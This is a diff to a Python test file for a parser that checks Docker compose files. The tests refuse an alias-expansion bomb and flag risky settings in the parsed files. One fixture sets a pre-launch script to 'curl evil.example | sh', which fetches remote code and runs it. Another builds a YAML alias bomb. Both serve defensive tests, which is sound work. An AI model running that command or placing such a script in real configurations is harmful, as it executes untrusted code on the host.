@@ -108,36 +108,24 @@ def test_malformed_files(data: bytes) -> None:
     assert refused.value.hint
 
 
-def test_aliases_cost_nothing() -> None:
-    """A file whose aliases would expand to a huge document is read at once."""
+def test_aliases_that_grow() -> None:
+    """A file whose aliases would expand to a huge document is refused at once."""
     lines = ["x0: &x0 [lol, lol]"]
     lines += [f"x{n}: &x{n} [*x{n - 1}, *x{n - 1}]" for n in range(1, 40)]
     text = "\n".join([*lines, f"services: {{a: {{image: 'n@{DIGEST}', volumes: *x39}}}}"])
-    assert parse_compose(text.encode(), file="compose.yaml").images
+    with pytest.raises(MeasurementRefused, match="too deep or too large at line"):
+        parse_compose(text.encode(), file="compose.yaml")
 
 
+CHOSEN = "allowed_envs: the operator chooses these variables, which are not measured: API_URL"
+SCRIPT = "pre_launch_script: a script runs before the containers; its text is in the file: read it"
 NOTED = {
-    "the operator chooses these variables, which are not measured: API_URL": app_compose(
-        allowed_envs=["API_URL"]
-    ),
-    "anyone can read the output of the containers (public_logs)": app_compose(public_logs=True),
-    "anyone can read the state of the machine (public_sysinfo)": app_compose(public_sysinfo=True),
-    "a script runs before the containers; its text is in the file: read it": app_compose(
-        pre_launch_script="curl evil.example | sh"
-    ),
-    "service notes controls all containers through the Docker socket": app_compose(
-        f"{PINNED}    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n"
-    ),
-    "service notes can request quotes and keys of the application": app_compose(
-        f"{PINNED}    volumes: [{{source: /var/run/dstack.sock, target: /s}}]\n"
-    ),
-    "service notes reads variables from a file that is not measured": app_compose(
-        f"{PINNED}    env_file: .env\n"
-    ),
-    "service notes is privileged": app_compose(f"{PINNED}    privileged: true\n"),
-    "the file uses variables whose values are not measured: NODE": app_compose(
-        f"{PINNED}    environment: ['A=${{NODE}}', 'B=$$HOME']\n"
-    ),
+    CHOSEN: app_compose(allowed_envs=["API_URL"]),
+    SCRIPT: app_compose(pre_launch_script="curl evil.example | sh"),
+    "public_logs: anyone can read the output of the containers": app_compose(public_logs=True),
+    "public_sysinfo: anyone can read the state of the machine": app_compose(public_sysinfo=True),
+    "docker_compose_file: the operator chooses the values of variables, which are not measured:"
+    " NODE": app_compose(f"{PINNED}    environment: ['A=${{NODE}}', 'B=$$HOME']\n"),
 }
 
 
